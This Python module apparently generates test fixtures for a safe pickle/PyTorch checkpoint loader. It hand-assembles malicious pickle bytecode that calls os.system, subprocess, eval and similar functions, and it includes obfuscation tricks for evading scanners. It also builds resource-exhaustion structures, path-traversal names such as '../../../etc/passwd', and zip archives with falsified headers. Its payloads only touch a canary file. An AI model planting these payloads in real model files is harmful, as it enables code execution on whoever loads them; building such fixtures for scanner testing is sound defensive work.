"""Pickles written by hand, instruction by instruction, that abuse everything a pickle can say.

A fragment is instructions that leave one object on the stack.
"""

import io
import pickle
import struct
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch


def text(value: str) -> bytes:
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def blob(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def number(value: int) -> bytes:
    encoded = pickle.encode_long(value)
    return b"\x8b" + struct.pack("<i", len(encoded)) + encoded


def named(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def stack_named(module: bytes, name: bytes) -> bytes:
    return module + name + b"\x93"


def tuple_of(*fragments: bytes) -> bytes:
    return b"(" + b"".join(fragments) + b"t"


def list_of(*fragments: bytes) -> bytes:
    return b"](" + b"".join(fragments) + b"e"


def dict_of(*fragments: bytes) -> bytes:
    return b"}(" + b"".join(fragments) + b"u"


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + tuple_of(*arguments) + b"R"


def new(kind: bytes, *arguments: bytes) -> bytes:
    return kind + tuple_of(*arguments) + b"\x81"


def new_with(kind: bytes, arguments: bytes, keywords: bytes) -> bytes:
    return kind + arguments + keywords + b"\x92"


def build(target: bytes, state: bytes) -> bytes:
    return target + state + b"b"


def whole(fragment: bytes) -> bytes:
    return b"\x80\x04" + fragment + b"."


STORAGE = tuple_of(text("storage"), named("torch", "FloatStorage"), text("0"), text("cpu"), b"K\x02") + b"Q"


def tensor(
    storage: bytes = STORAGE, offset: bytes = b"K\x00", size: bytes = b"K\x02\x85", stride: bytes = b"K\x01\x85"
) -> bytes:
    return call(named("torch._utils", "_rebuild_tensor_v2"), storage, offset, size, stride, b"\x89", b"}")


def archive(path: Path, fragment: bytes, *, members: tuple[tuple[str, bytes], ...] = ()) -> None:
    """A checkpoint as torch.save writes it, with honest weights, and ``fragment`` beside them."""
    pickled = whole(dict_of(text("state_dict"), dict_of(text("w"), tensor()), text("beside"), fragment))
    with zipfile.ZipFile(path, "w") as file:
        for name, content in (("data.pkl", pickled), ("data/0", bytes(8)), ("version", b"3\n"), *members):
            file.writestr(f"archive/{name}", content)


def bare(path: Path, fragment: bytes, *, protocol: bytes = b"\x80\x04") -> None:
    """A file of that pickle alone."""
    path.write_bytes(protocol + dict_of(text("model"), fragment) + b".")


def nested_torch_file(fragment: bytes) -> bytes:
    """What torch.save wrote before 1.6, with ``fragment`` for its document."""
    head = [pickle.dumps(value, 2) for value in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})]
    return b"".join(head) + whole(fragment) + pickle.dumps([], 2)


def code(canary: Path) -> dict[str, bytes]:
    """Fragments that ask for code, by what they do; most of them make ``canary`` where a pickle may do anything."""
    touch, opened = text(f"touch {canary}"), text(f"open({str(canary)!r}, 'w').close()")
    imported = text(f"__import__('pathlib').Path({str(canary)!r}).touch()")
    system, file = named("os", "system"), text(str(canary))
    evil = whole(call(system, touch))
    builtins = {
        f"builtins.{name}": call(named("builtins", name), opened)
        for name in ("eval", "exec", "__import__", "breakpoint", "input", "print", "vars", "globals", "super")
    }
    functions = {
        f"{module}.{name}": call(named(module, name), argument)
        for module, name, argument in (
            ("os", "system", touch),
            ("posix", "system", touch),
            ("nt", "system", touch),
            ("os", "popen", touch),
            ("os", "mkdir", file),
            ("pty", "spawn", list_of(text("touch"), file)),
            ("subprocess", "Popen", list_of(text("touch"), file)),
            ("subprocess", "check_output", list_of(text("touch"), file)),
            ("subprocess", "getoutput", touch),
            ("commands", "getoutput", touch),
            ("timeit", "timeit", imported),
            ("cProfile", "run", imported),
            ("pdb", "run", imported),
            ("bdb", "Bdb", b""),
            ("trace", "Trace", b""),
            ("runpy", "run_path", file),
            ("importlib", "import_module", text("antigravity")),
            ("ctypes", "CDLL", file),
            ("webbrowser", "open", text("http://localhost")),
            ("shutil", "rmtree", file),
            ("io", "open", file + text("w")),
            ("_io", "FileIO", file + text("w")),
            ("pickle", "loads", blob(evil)),
            ("_pickle", "loads", blob(evil)),
            ("marshal", "loads", blob(b"c")),
            ("multiprocessing", "Process", b""),
            ("threading", "Thread", b""),
            ("socket", "create_connection", tuple_of(text("localhost"), b"K\x50")),
            ("urllib.request", "urlopen", text("http://localhost")),
            ("logging.config", "dictConfig", b"}"),
            ("logging", "FileHandler", file),
            ("sqlite3", "connect", file),
            ("tempfile", "mkdtemp", b""),
            ("tarfile", "open", file),
            ("code", "InteractiveInterpreter", b""),
            ("doctest", "script_from_examples", touch),
            ("collections", "namedtuple", text("A") + text("x")),
            ("dataclasses", "make_dataclass", text("A") + b"]"),
            ("typing", "get_type_hints", b"}"),
            ("argparse", "FileType", text("w")),
            ("operator", "methodcaller", text("system") + touch),
            ("operator", "attrgetter", text("system")),
            ("itertools", "starmap", system + list_of(tuple_of(touch))),
            ("functools", "reduce", system + list_of(touch, touch)),
            ("types", "FunctionType", b"N"),
            ("types", "CodeType", b"N"),
            ("copyreg", "add_extension", text("os") + text("system") + b"K\x01"),
            ("copyreg", "pickle", named("builtins", "int") + system),
            ("torch", "load", file),
            ("torch", "compile", system),
            ("torch.serialization", "load", file),
            ("torch.hub", "load", file + text("x")),
            ("torch.jit", "load", file),
            ("torch.jit._serialization", "load", file),
            ("torch.utils.collect_env", "run", touch),
            ("torch.utils.cpp_extension", "load_inline", file),
            ("torch._utils", "_import_dotted_name", text("os.system")),
            ("torch.fx.graph_module", "_forward_from_src", opened + b"}"),
            ("numpy", "load", file),
            ("numpy", "fromfile", file),
            ("numpy.testing._private.utils", "runstring", opened + b"}"),
            ("numpy.f2py.capi_maps", "getinit", touch),
            ("distutils.spawn", "spawn", list_of(text("touch"), file)),
            ("pip", "main", list_of(text("install"))),
            ("joblib", "load", file),
            ("dill", "loads", blob(evil)),
            ("cloudpickle.cloudpickle", "_make_function", b"N"),
            ("IPython.utils._process_posix", "system", touch),
            ("sympy.parsing.sympy_parser", "parse_expr", opened),
            ("users_module", "helper", touch),
            ("__builtin__", "eval", opened),
            ("__main__", "main", touch),
        )
    }
    getattr_ = named("builtins", "getattr")
    os_module = call(named("builtins", "__import__"), text("os"))
    forms = {
        "INST": b"(" + touch + b"ios\nsystem\n",
        "OBJ": b"(" + system + touch + b"o",
        "NEWOBJ": new(named("subprocess", "Popen"), list_of(text("touch"), file)),
        "NEWOBJ_EX": new_with(named("subprocess", "Popen"), tuple_of(text("touch")), dict_of(text("shell"), b"\x88")),
        "BUILD": build(new(named("logging", "FileHandler")), dict_of(text("baseFilename"), file)),
        "BUILD of a class": build(named("torch.nn.modules.module", "Module"), dict_of(text("forward"), b"N")),
        "BUILD of a class with slots": build(named("project", "Net"), tuple_of(b"N", dict_of(text("call"), b"N"))),
        "STACK_GLOBAL": call(stack_named(text("os"), text("system")), touch),
        "STACK_GLOBAL through the memo": text("os")
        + b"q\xf0" + text("system") + b"q\xf1" + b"00" + call(b"h\xf0h\xf1\x93", touch),
        "STACK_GLOBAL of bytes": call(stack_named(blob(b"os"), blob(b"system")), touch),
        "STACK_GLOBAL of what a call gives": call(
            stack_named(call(named("_codecs", "encode"), text("os"), text("latin1")), text("system")), touch
        ),
        "STACK_GLOBAL of two lines": call(stack_named(text("os"), text("system\nx")), touch),
        "STACK_GLOBAL that climbs": call(stack_named(text("pathlib"), text("os.system")), touch),
        "STACK_GLOBAL through argparse": call(stack_named(text("argparse"), text("_os.system")), touch),
        "STACK_GLOBAL of a method": call(stack_named(text("pathlib"), text("Path.touch")), file),
        "STACK_GLOBAL with dots only": stack_named(text("torch.."), text("..")),
        "STACK_GLOBAL of a path": stack_named(text("../../os"), text("system")),
        "STACK_GLOBAL of nothing": stack_named(text(""), text("")),
        "STACK_GLOBAL of dunders": stack_named(text("project"), text("Net.__init__.__globals__")),
        "STACK_GLOBAL of a long name": stack_named(text("os." * 100_000), text("system")),
        "EXT1": b"\x82\x01",
        "EXT2": b"\x83\x01\x00",
        "EXT4": b"\x84\x01\x00\x00\x00",
        "PERSID": b"Pos.system\n",
        "BINPERSID of text": text("os.system") + b"Q",
        "BINPERSID of a module": tuple_of(text("module"), system, text("x.py"), text("pass")) + b"Q",
        "BINPERSID of another kind": tuple_of(text("other"), named("torch", "FloatStorage"), text("0")) + b"Q",
        "a chain of getattr": call(call(getattr_, os_module, text("system")), touch),
        "getattr of a class's dunder": call(getattr_, named("project", "Net"), text("__subclasses__")),
        "getattr of a private name, called": call(call(getattr_, named("project", "Net"), text("_run")), touch),
        "getattr of a stand-in for a path": call(getattr_, call(named("pathlib", "PosixPath"), file), text("touch")),
        "a call of what getattr gives": call(call(getattr_, named("project", "Net"), text("run")), touch),
        "a call of a stand-in": call(call(named("project", "Net"), touch), touch),
        "a call of an instance": call(new(named("project", "Net")), touch),
        "a call of a list": call(b"]", touch),
        "a partial": call(named("functools", "partial"), system, touch),
        "a called partial": call(call(named("functools", "partial"), named("project", "Net")), touch),
        "a partial of __new__": call(
            build(
                call(named("functools", "partial"), call(getattr_, named("project", "Net"), text("__new__"))),
                tuple_of(system, tuple_of(touch), b"}", b"N"),
            )
        ),
        "map": call(named("builtins", "list"), call(named("builtins", "map"), system, list_of(touch))),
        "apply": call(named("__builtin__", "apply"), system, list_of(touch)),
        "filter": call(named("builtins", "filter"), system, list_of(touch)),
        "type": call(named("builtins", "type"), text("A"), b")", dict_of(text("__del__"), system)),
        "copyreg._reconstructor": call(
            named("copyreg", "_reconstructor"), named("subprocess", "Popen"), named("builtins", "object"), b"N"
        ),
        "copyreg.__newobj__": call(named("copyreg", "__newobj__"), named("subprocess", "Popen"), touch),
        "copyreg.__newobj_ex__": call(named("copyreg", "__newobj_ex__"), named("subprocess", "Popen"), b")", b"}"),
        "copy_reg of Python 2": call(named("copy_reg", "__newobj__"), named("subprocess", "Popen"), touch),
        "only named": system,
        "only named, in a list": list_of(b"N", named("builtins", "exec")),
        "only named, as a defaultdict's factory": call(named("collections", "defaultdict"), named("os", "getcwd")),
        "a pickle in a pickle": call(named("torch.storage", "_load_from_bytes"), blob(evil)),
        "a torch file in a pickle": call(
            named("torch.storage", "_load_from_bytes"), blob(nested_torch_file(call(system, touch)))
        ),
        "a torch file in a torch file": call(
            named("torch.storage", "_load_from_bytes"),
            blob(nested_torch_file(call(named("torch.storage", "_load_from_bytes"), blob(evil)))),
        ),
        "as the function of a tensor's class": call(
            named("torch._tensor", "_rebuild_from_type_v2"), system, named("torch", "Tensor"), tuple_of(touch), b"}"
        ),
        "as a tensor's hook": call(
            named("torch._utils", "_rebuild_tensor_v2"), STORAGE, b"K\x00", b")", b")", b"\x89", call(system, touch)
        ),
        "as an optimiser's attribute": build(
            new(named("torch.optim.adam", "Adam")), dict_of(text("hook"), call(system, touch))
        ),
        "as a field of dtype": build(
            call(named("numpy", "dtype"), text("O")), tuple_of(b"K\x03", call(system, touch))
        ),
        "as a module's child": build(
            new(named("torch.nn.modules.container", "Sequential")),
            dict_of(text("_parameters"), b"}", text("_buffers"), b"}", text("_modules"), dict_of(text("0"), system)),
        ),
    }  # fmt: skip
    return {**builtins, **functions, **forms}


def _project(name: str) -> bytes:
    return named("project.records", name)


#: Everything that a stand-in, or what is made in its stead, can take: argument, state, item, key, value.
STAND_INS: dict[str, Callable[[bytes], bytes]] = {
    "argument": lambda inner: call(_project("Config"), inner),
    "argument of an instance": lambda inner: new(_project("config"), inner),
    "argument of an instance with keywords": lambda inner: new_with(_project("C"), tuple_of(inner), b"}"),
    "keyword": lambda inner: new_with(_project("Config"), b")", dict_of(text("x"), inner)),
    "argument of INST": lambda inner: b"(" + inner + b"iproject.records\nConfig\n",
    "argument of OBJ": lambda inner: b"(" + _project("Config") + inner + b"o",
    "state": lambda inner: build(new(_project("Config")), inner),
    "attribute": lambda inner: build(new(_project("Config")), dict_of(text("x"), inner)),
    "name of an attribute": lambda inner: build(new(_project("Config")), dict_of(inner, b"N")),
    "slot": lambda inner: build(new(_project("Config")), tuple_of(b"N", dict_of(text("x"), inner))),
    "item": lambda inner: new(_project("Items")) + inner + b"a",
    "items": lambda inner: new(_project("Items")) + b"(" + inner + b"K\x01e",
    "item of a set": lambda inner: new(_project("Items")) + b"(" + inner + b"\x90",
    "value": lambda inner: new(_project("Config")) + text("x") + inner + b"s",
    "key": lambda inner: new(_project("Config")) + inner + b"Ns",
    "argparse.Namespace": lambda inner: build(call(named("argparse", "Namespace")), dict_of(text("x"), inner)),
    "SimpleNamespace": lambda inner: build(call(named("types", "SimpleNamespace")), dict_of(text("x"), inner)),
    "numpy scalar": lambda inner: call(named("numpy.core.multiarray", "scalar"), inner, blob(b"ab")),
    "numpy array": lambda inner: build(
        call(named("numpy._core.multiarray", "_reconstruct"), named("numpy", "ndarray"), b"K\x00\x85", blob(b"b")),
        tuple_of(b"K\x01", b"K\x01\x85", inner, b"\x89", blob(b"abcd")),
    ),
    "numpy objects": lambda inner: build(
        call(named("numpy._core.multiarray", "_reconstruct"), named("numpy", "ndarray"), b"K\x00\x85", blob(b"b")),
        tuple_of(b"K\x01", b"K\x01\x85", call(named("numpy", "dtype"), text("O")), b"\x89", list_of(inner)),
    ),
    "path": lambda inner: call(named("pathlib", "PosixPath"), inner),
    "date": lambda inner: call(named("datetime", "datetime"), inner),
    "decimal": lambda inner: call(named("decimal", "Decimal"), inner),
    "uuid": lambda inner: build(new(named("uuid", "UUID")), dict_of(text("int"), inner)),
    "enum": lambda inner: call(_project("Color"), inner),
    "member of an enum": lambda inner: call(named("builtins", "getattr"), _project("Color"), inner),
    "OrderedDict": lambda inner: call(named("collections", "OrderedDict"), list_of(tuple_of(inner, b"N"))),
    "state of an OrderedDict": lambda inner: build(call(named("collections", "OrderedDict")), inner),
    "defaultdict": lambda inner: call(named("collections", "defaultdict"), inner),
    "Counter": lambda inner: call(named("collections", "Counter"), dict_of(inner, b"K\x01")),
    "deque": lambda inner: call(named("collections", "deque"), list_of(inner)),
    "named tuple": lambda inner: new(_project("Pair"), inner, b"N"),
    "partial": lambda inner: call(named("functools", "partial"), inner),
    "state of a partial": lambda inner: build(
        call(named("functools", "partial"), _project("Net")), tuple_of(inner, b")", b"}", b"N")
    ),
    "set": lambda inner: b"\x8f(" + inner + b"\x90",
    "frozenset": lambda inner: b"(" + inner + b"\x91",
    "set of protocol 2": lambda inner: call(named("builtins", "set"), list_of(inner)),
    "complex": lambda inner: call(named("builtins", "complex"), inner, inner),
    "bytearray": lambda inner: call(named("builtins", "bytearray"), inner),
    "bytes": lambda inner: call(named("_codecs", "encode"), inner, text("latin1")),
    "list": lambda inner: list_of(inner),
    "key of a dict": lambda inner: dict_of(inner, b"N"),
    "key in a tuple": lambda inner: dict_of(tuple_of(inner, b"N"), b"N"),
    "copyreg": lambda inner: call(
        named("copyreg", "_reconstructor"), _project("Config"), named("builtins", "dict"), inner
    ),
    "class of copyreg": lambda inner: call(named("copyreg", "__newobj__"), inner),
    "optimiser": lambda inner: build(new(named("torch.optim.adam", "Adam")), dict_of(text("state"), inner)),
    "loss": lambda inner: build(
        new(named("torch.nn.modules.loss", "MSELoss")),
        dict_of(text("_parameters"), dict_of(text("w"), inner), text("_buffers"), b"}", text("_modules"), b"}"),
    ),
    "parameter": lambda inner: call(named("torch._utils", "_rebuild_parameter"), inner, b"\x88", b"}"),
    "parameter's state": lambda inner: call(
        named("torch._utils", "_rebuild_parameter_with_state"), tensor(), b"\x88", b"}", inner
    ),
    "old parameter": lambda inner: build(new(named("torch.nn.parameter", "Parameter")), inner),
    "tensor's hooks": lambda inner: call(
        named("torch._utils", "_rebuild_tensor_v2"), STORAGE, b"K\x00", b"K\x02\x85", b"K\x01\x85", b"\x89", inner
    ),
    "tensor's metadata": lambda inner: call(
        named("torch._utils", "_rebuild_tensor_v2"), STORAGE, b"K\x00", b")", b")", b"\x89", b"}", inner
    ),
    "tensor's class": lambda inner: call(
        named("torch._tensor", "_rebuild_from_type_v2"),
        named("torch._utils", "_rebuild_tensor_v2"),
        inner,
        tuple_of(STORAGE, b"K\x00", b")", b")", b"\x89", b"}"),
        b"}",
    ),
    "device": lambda inner: call(named("torch", "device"), inner),
    "size": lambda inner: call(named("torch", "Size"), inner),
    "generator": lambda inner: build(call(named("torch._C", "Generator")), tuple_of(inner, b"N")),
    "pandas": lambda inner: call(named("pandas.core.indexes.base", "_new_Index"), _project("Index"), inner),
    "annotation": lambda inner: call(named("_operator", "getitem"), named("typing", "Optional"), inner),
}


def odd_tensors() -> dict[str, bytes]:
    """Tensors whose numbers do not belong together, or are no numbers."""
    huge, negative = number(2**62), number(-1)
    rebuild = named("torch._tensor", "_rebuild_from_type_v2")
    nested = tuple_of(named("torch._utils", "_rebuild_tensor_v2"), b"N", b")", b"}")
    for _ in range(2000):
        nested = tuple_of(rebuild, b"N", nested, b"}")
    lying = tuple_of(text("storage"), named("torch", "FloatStorage"), text("0"), text("cpu"), number(2**40)) + b"Q"
    climbing = tuple_of(
        text("storage"), named("torch", "FloatStorage"), text("../../../etc/passwd"), text("cpu"), b"K\x01"
    )
    return {
        "larger than its storage": tensor(size=b"K\x03\x85"),
        "beyond its storage": tensor(offset=b"K\x02"),
        "an offset below zero": tensor(offset=negative),
        "a stride below zero": tensor(stride=negative + b"\x85"),
        "a size below zero": tensor(size=negative + b"\x85"),
        "a huge size": tensor(size=huge + b"\x85"),
        "a huge size without strides": tensor(size=number(2**40) + b"\x85", stride=b"K\x00\x85"),
        "huge sizes whose product overflows": tensor(size=tuple_of(huge, huge, huge), stride=tuple_of(*[b"K\x00"] * 3)),
        "a huge size and none": tensor(size=tuple_of(huge, b"K\x00"), stride=tuple_of(huge, huge)),
        "a huge stride": tensor(stride=huge + b"\x85"),
        "a number beyond 64 bits": tensor(size=number(2**70) + b"\x85"),
        "a truth for a size": tensor(size=b"\x88\x85"),
        "text for a size": tensor(size=text("2") + b"\x85"),
        "a list for sizes": tensor(size=list_of(b"K\x02")),
        "sizes without strides": tensor(stride=b")"),
        "a hundred dimensions": tensor(size=tuple_of(*[b"K\x01"] * 100), stride=tuple_of(*[b"K\x01"] * 100)),
        "no storage": tensor(storage=b"N"),
        "a list for its storage": tensor(storage=b"]"),
        "a tensor for its storage": tensor(storage=tensor()),
        "a storage that lies": tensor(storage=lying),
        "a storage that is elsewhere": tensor(storage=climbing + b"Q"),
        "a storage of no class": tensor(
            storage=tuple_of(text("storage"), named("torch", "OtherStorage"), text("0"), text("cpu"), b"K\x02") + b"Q"
        ),
        "a storage that is no tuple": tensor(storage=text("storage") + b"Q"),
        "too few arguments": call(named("torch._utils", "_rebuild_tensor_v2"), STORAGE),
        "an unknown dtype": call(
            named("torch._utils", "_rebuild_tensor_v3"),
            *(STORAGE, b"K\x00", b"K\x01\x85", b"K\x01\x85", b"\x89", b"}", named("torch", "Generator")),
        ),
        "a wider dtype than its storage": call(
            named("torch._utils", "_rebuild_tensor_v3"),
            *(STORAGE, b"K\x00", b"K\x02\x85", b"K\x01\x85", b"\x89", b"}", named("torch", "float64")),
        ),
        "a parameter of a list": call(named("torch._utils", "_rebuild_parameter"), b"]", b"\x88", b"}"),
        "a class in a class in a class": call(rebuild, rebuild, b"N", nested, b"}"),
        "a huge constructor": call(named("torch", "FloatTensor"), huge),
        "a huge instance": new(named("torch", "FloatTensor"), huge),
        "a state of odd parts": build(new(named("torch", "FloatTensor")), tuple_of(STORAGE, huge, b"N", b"]")),
        "a state that is itself": build(new(named("torch", "FloatTensor")) + b"q\xf0", tuple_of(*[b"h\xf0"] * 5)),
    }  # fmt: skip


def _doubled(levels: int, first: bytes, twice: Callable[[bytes], bytes]) -> bytes:
    """``first`` referred to twice by what is referred to twice, and so on."""
    fragment = first + b"r" + struct.pack("<I", 2000)
    for level in range(levels):
        back = b"j" + struct.pack("<I", 2000 + level)
        fragment += b"0" + twice(back) + b"r" + struct.pack("<I", 2001 + level)
    return fragment


def _module(children: bytes) -> bytes:
    parts = dict_of(text("_parameters"), b"}", text("_buffers"), b"}", text("_modules"), children)
    return build(new(named("project", "Net")), parts)


_ARRAY = call(named("numpy.core.multiarray", "_reconstruct"))


def structures() -> dict[str, bytes]:
    """Objects that refer to themselves, are very deep, or become very large when they are walked through or copied."""
    depth = 50_000
    letters = text("x" * 100_000) + b"q\xf0" + b"0"
    colliding = b"".join(number(k * (2**61 - 1)) + b"N" for k in range(1, 20_000))
    return {
        "a list in itself": b"]q\xf0h\xf0a",
        "a dict in itself": b"}q\xf0" + text("model") + b"h\xf0s",
        "a stand-in in itself": new(named("project", "Net")) + b"q\xf0" + dict_of(text("model"), b"h\xf0") + b"b",
        "a module in itself": new(named("project", "Net"))
        + b"q\xf0"
        + dict_of(text("_parameters"), b"}", text("_buffers"), b"}", text("_modules"), dict_of(text("a"), b"h\xf0"))
        + b"b",
        "deep lists": b"]" * depth + b"a" * (depth - 1),
        "deep tuples": b")" + b"\x85" * depth,
        "deep tuples for a key": dict_of(b")" + b"\x85" * depth, b"N"),
        "deep frozensets for a key": dict_of(b"(" * depth + b"\x91" * depth, b"N"),
        "deep stand-ins": named("project", "Net") + b"q\xf0" + b"0" + b"h\xf0" * depth + b")" + b"\x81\x85" * depth,
        "deep marks": b"(" * depth + b"t" * depth,
        "deep modules": _deep_modules(5000),
        "doubled tuples": _doubled(60, b")", lambda back: back + back + b"\x86"),
        "doubled tuples for a key": dict_of(_doubled(60, b")", lambda back: back + back + b"\x86"), b"N"),
        "doubled dicts": _doubled(60, b"}", lambda back: dict_of(text("model"), back, text("net"), back)),
        "doubled modules": _doubled(60, _module(b"}"), lambda back: _module(dict_of(text("a"), back, text("b"), back))),
        "wide dicts of one": _doubled(
            4, b"}", lambda back: dict_of(*(text(f"k{i}") + back for i in range(3000)))
        ),
        "keys of one hash": b"}(" + colliding + b"u",
        "a huge bytearray": call(named("builtins", "bytearray"), number(2**36)),
        "huge bytes": call(named("builtins", "bytes"), number(2**36)),
        "a huge range": call(named("builtins", "list"), call(named("builtins", "range"), number(2**60))),
        "bytes of one text": letters
        + list_of(*[call(named("_codecs", "encode"), b"h\xf0", text("latin1")) for _ in range(3000)]),
        "names of one text": letters
        + list_of(*[call(named("builtins", "getattr"), named("a", "B"), b"h\xf0") for _ in range(3000)]),
        "sets of one list": list_of(*[b"N"] * 1000)
        + b"q\xf1" + b"0"
        + list_of(*[call(named("builtins", "set"), b"h\xf1") for _ in range(10_000)]),
        "pairs of one list": list_of(*[tuple_of(b"N", b"N")] * 1000)
        + b"q\xf1" + b"0"
        + list_of(*[call(named("collections", "OrderedDict"), b"h\xf1") for _ in range(10_000)]),
        "a name of a million letters": text("x" * 1_000_000)
        + b"q\xf0"
        + list_of(*[b"h\xf0h\xf0\x93"] * 20_000),
        "odd pairs of one list": list_of(*[tuple_of(b"N", b"N")] * 100_000, b"N")
        + b"q\xf1" + b"0"
        + list_of(*[call(named("collections", "OrderedDict"), b"h\xf1") for _ in range(20_000)]),
        "attributes of one dict": dict_of(*(number(k) + b"N" for k in range(20_000)))
        + b"q\xf1" + b"0"
        + dict_of(*(number(k) + build(new(named("a", "B")), b"h\xf1") for k in range(20_000))),
        "networks of one dict": dict_of(*(text(f"k{k}") + b"N" for k in range(20_000)))
        + b"q\xf1" + b"0"
        + dict_of(*(number(k) + _module(b"h\xf1") for k in range(5_000))),
        "arrays of one shape": b"(" + b"K\x01" * 100_000 + b"tq\xf1" + b"0"
        + dict_of(*(number(k) + build(_ARRAY, tuple_of(b"K\x01", b"h\xf1", b"N", b"N", b"N")) for k in range(20_000))),
        "text longer than the file": b"\x8d" + struct.pack("<Q", 2**40) + b"x",
        "bytes longer than the file": b"\x8e" + struct.pack("<Q", 2**62) + b"x",
        "a frame longer than the file": b"\x95" + struct.pack("<Q", 2**62) + b"N",
        "a number of many digits": b"L" + b"9" * 100_000 + b"L\n",
        "a memo far away": b"Nr\xff\xff\xff\xff",
        "an empty stack": b"0" * 10,
        "a mark that is not there": b"t",
        "items for a number": b"K\x01N" + b"a",
        "state for a number": b"K\x01}b",
        "an opcode that is none": b"\xff",
        "another protocol": b"\x80\x63N",
        "surrogates for a name": b"}X\x03\x00\x00\x00\xed\xa0\x80" + tensor() + b"s",
        "a buffer from elsewhere": b"\x97",
    }  # fmt: skip


def _deep_modules(depth: int) -> bytes:
    fragment = _module(b"}")
    for _ in range(depth):
        fragment += b"r\xd0\x07\x00\x000" + _module(dict_of(text("a"), b"j\xd0\x07\x00\x00"))
    return fragment


def archives(folder: Path) -> dict[str, Path]:
    """Zip archives that say of themselves what is not so."""
    honest = io.BytesIO()
    torch.save({"w": torch.ones(100)}, honest)
    made: dict[str, Path] = {}

    def write(name: str, members: list[tuple[str, bytes]]) -> None:
        made[name] = folder / f"{name}.pth"
        with warnings.catch_warnings(), zipfile.ZipFile(made[name], "w") as file:
            warnings.simplefilter("ignore")  # of two members of one name
            for member, held in members:
                file.writestr(member, held)

    evil = whole(call(named("os", "system"), text("true")))
    pickled = whole(dict_of(text("w"), tensor()))
    write("two data.pkl", [("a/data.pkl", pickled), ("a/data/0", bytes(8)), ("b/data.pkl", evil)])
    write("a name that climbs", [("../../data.pkl", pickled), ("../../data/0", bytes(8))])
    write("a rooted name", [("/data.pkl", pickled), ("/data/0", bytes(8))])
    write("no storages", [("a/data.pkl", pickled)])
    write("two members of one name", [("a/data.pkl", pickled), ("a/data/0", bytes(8)), ("a/data/0", bytes(8))])
    write("two data.pkl of one name", [("a/data.pkl", pickled), ("a/data.pkl", evil), ("a/data/0", bytes(8))])
    write("a short storage", [("a/data.pkl", pickled), ("a/data/0", bytes(7))])
    for name, patch in _patches(honest.getvalue()).items():
        made[name] = folder / f"{name}.pth"
        made[name].write_bytes(patch)
    return made


def _patches(content: bytes) -> dict[str, bytes]:
    """Archives whose directory says of the storage what is not so."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        name = next(name for name in archive.namelist() if name.endswith("data/0"))
        start = archive.start_dir
    entry = content.rindex(b"PK\x01\x02", start, content.index(name.encode(), start))

    def patched(at: int, value: bytes) -> bytes:
        return content[: entry + at] + value + content[entry + at + len(value) :]

    large = struct.pack("<I", 2**31)
    return {
        "sizes beyond the file": patched(20, large + large),
        "unlike sizes": patched(24, large),
        "a place beyond the file": patched(42, large),
        "a place that is no member": patched(42, struct.pack("<I", 7)),
        "a place that is another member": patched(42, struct.pack("<I", 0)),
        "encrypted": patched(8, struct.pack("<H", 1)),
        "deflated": patched(10, struct.pack("<H", 8)),
        "cut in its directory": content[:-30],
    }
